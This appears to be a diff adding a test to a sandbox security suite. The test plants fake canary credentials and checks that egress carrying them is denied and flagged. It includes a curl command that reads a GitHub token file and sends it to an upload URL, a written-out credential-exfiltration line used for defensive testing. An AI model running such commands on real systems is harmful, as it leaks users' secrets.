@@ -205,3 +205,32 @@ describe.skipIf(!canRunNamespaces)('credentials that never enter the sandbox', (
     ).toBe(true);
   });
 });
+
+describe.skipIf(!canRunNamespaces)('canary credentials', () => {
+  it('planted fake credentials that show up in egress are blocked and raised as alerts', async () => {
+    await withSandbox(
+      {
+        network: policy,
+        canaries: [
+          { name: 'AWS_SECRET_ACCESS_KEY', kind: 'env' },
+          { name: 'GITHUB_TOKEN', kind: 'file', path: '/home/user/.config/gh/token' },
+        ],
+      },
+      async (s) => {
+        const env = await s.exec('echo "$AWS_SECRET_ACCESS_KEY"; cat /home/user/.config/gh/token');
+        const [aws, gh] = env.stdout.trim().split('\n');
+        expect(aws).toMatch(/^[A-Za-z0-9/+]{40}$/);
+        expect(gh).toMatch(/^ghp_/);
+        const seen = [];
+        const off = s.onEgress((e) => seen.push(e));
+        const r = await s.exec(
+          `curl -sS -m 10 -w '\\n%{http_code}' "http://${ALLOWED.name}/upload?k=$(cat /home/user/.config/gh/token)"`,
+        );
+        off();
+        expect(r.stdout).toMatch(/canary[\s\S]*403$/);
+        expect(r.egress?.some((e) => e.alert === 'canary' && e.decision === 'deny')).toBe(true);
+        expect(servers.seen.some((q) => q.url.startsWith('/upload'))).toBe(false);
+      },
+    );
+  });
+});
